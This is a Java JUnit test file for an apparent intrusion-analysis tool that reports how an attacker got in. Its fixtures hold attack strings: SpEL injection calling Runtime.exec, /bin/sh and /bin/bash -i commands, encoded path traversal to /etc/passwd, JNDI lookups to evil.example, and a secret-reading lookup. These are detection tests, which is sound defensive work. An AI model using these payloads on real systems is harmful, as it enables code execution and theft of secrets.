package whorl.collector.analysis;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import whorl.collector.analysis.findings.Finding;
import whorl.collector.analysis.findings.Subject;
import whorl.collector.analysis.kinds.Severity;
import whorl.collector.analysis.kinds.Technique;

/** What is reported as the way in of an intruder, and what is not. */
class WayInTest extends AnalysisFixture {
  @Test
  void wayIn_expressionThatAccessesCode_namesRequestAddressAndExpression() throws Exception {
    rows.request("r0", "GET", "/healthz", "", ADDRESS, 200);
    addInjection("r1");
    addAnsweredRequest("r1");

    Finding finding = only("way-in");

    assertThat(finding.severity()).isEqualTo(Severity.HIGH);
    assertThat(finding.title()).isEqualTo("Way in: expression injection through GET /products");
    assertThat(finding.text())
        .contains("GET /products from 203.0.113.7 (curl/8.5, answered 200)")
        .contains("T(java.lang.Runtime).getRuntime()")
        .contains("earliest contact of 203.0.113.7 in this evidence is GET /healthz");
    assertThat(finding.techniques())
        .contains(Technique.EXPLOIT_PUBLIC_APPLICATION, Technique.SCRIPTING);
    assertThat(finding.subjects())
        .contains(
            new Subject(Subject.Kind.REQUEST, "GET /products"),
            new Subject(Subject.Kind.ADDRESS, ADDRESS));
    assertThat(report().summary()).contains("expression injection through GET /products", ADDRESS);
  }

  /** The agent reports a long expression in pieces. */
  @Test
  void chain_ofALongExpression_hasOneStepForIt() throws Exception {
    String first = "T(java.lang.Runtime).getRuntime()" + " ".repeat(4_000) + "…";
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", first);
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "…  .exec('id')");
    addAnsweredRequest("r1");

    assertThat(report().chain())
        .filteredOn(step -> step.what().contains("evaluate an expression"))
        .hasSize(1);
  }

  /** What is dangerous may stand behind much that is not. */
  @Test
  void wayIn_laterPieceOfAnExpression_isReportedIfTheFirstIsOrdinary() throws Exception {
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", " ".repeat(4_000) + "…");
    rows.of(
        "r1",
        "whorl.ScriptEval",
        "engine",
        "spel",
        "source",
        "…  T(java.lang.Runtime).getRuntime()");
    addAnsweredRequest("r1");

    assertThat(only("way-in").title()).contains("expression injection");
  }

  @Test
  void wayIn_ordinaryExpression_isNotReported() throws Exception {
    rows.of("r1", "whorl.ScriptEval", "engine", "spel", "source", "name");
    rows.event("whorl.ScriptEval", "engine", "spel", "source", "T(java.lang.Math).random()");
    addAnsweredRequest("r1");

    assertThat(report().findings()).isEmpty();
    assertThat(report().chain()).isEmpty();
    assertThat(report().summary()).contains("Nothing in it looks like an attack");
  }

  @Test
  void wayIn_requestThatRanAProgram_isCritical() throws Exception {
    addInjection("r1");
    rows.of("r1", "whorl.ProcessStart", "command", "/bin/sh -c id", "pid", 7);
    addAnsweredRequest("r1");

    assertThat(only("way-in").severity()).isEqualTo(Severity.CRITICAL);
  }

  @Test
  void wayIn_pathTraversal_isTheRequestThatNamedTheFile() throws Exception {
    rows.of("r1", "whorl.FileOpen", "path", "/etc/passwd", "access", "read", "failed", false);
    rows.request("r1", "GET", "/view", "file=..%252F..%252Fetc%252Fpasswd", ADDRESS, 200);
    rows.of("r2", "whorl.FileOpen", "path", "/app/application.yml", "access", "read");
    rows.request("r2", "GET", "/reload", "", "10.0.0.1", 200);

    assertThat(only("way-in").title()).isEqualTo("Way in: path traversal through GET /view");
  }

  @Test
  void wayIn_requestWithoutAnswer_isNamedByItsFirstRow() throws Exception {
    rows.of(
        "r1",
        "whorl.ProcessStart",
        "command",
        "/bin/bash -i",
        "request.method",
        "POST",
        "request.path",
        "/x",
        "request.remoteAddress",
        ADDRESS);

    assertThat(only("way-in").text()).contains("POST /x from 203.0.113.7", "no answer");
  }

  @ParameterizedTest
  @CsvSource({
    "whorl.JndiLookup,name,ldap://evil.example/a,a JNDI lookup,HIGH",
    "whorl.JndiAnswer,codebase,http://evil.example/,a JNDI lookup,HIGH",
    "whorl.AgentLoad,jar,/tmp/a.jar,an agent loaded into the JVM,HIGH",
  })
  void wayIn_outsideAnyRequest_isReportedToo(
      String action, String field, String value, String kind, Severity severity) throws Exception {
    rows.event(action, field, value);

    Finding finding = only("way-in");
    assertThat(finding.title()).isEqualTo("Way in: " + kind + " outside any request");
    assertThat(finding.severity()).isEqualTo(severity);
  }

  @Test
  void wayIn_jndiNameWithAnExpression_isOneOfARequestAlone() throws Exception {
    rows.event("whorl.JndiLookup", "name", "java:comp/env/${mail.session}");
    rows.request("r1", "POST", "/x", "", ADDRESS, 200);
    rows.of("r1", "whorl.JndiLookup", "name", "java:comp/${env:SECRET}");

    assertThat(only("way-in").text()).contains("POST /x", "java:comp/${env:SECRET}");
  }

  @Test
  void wayIn_requestKnownOnlyByARegistration_isNotNamedByItsPattern() throws Exception {
    rows.of(
        "r1",
        "whorl.Registration",
        "kind",
        "filter",
        "className",
        "x.Shell",
        "target",
        "/shell/*",
        "request.method",
        "POST",
        "request.path",
        "/import");

    assertThat(only("way-in").title()).endsWith("POST /import");
  }
}
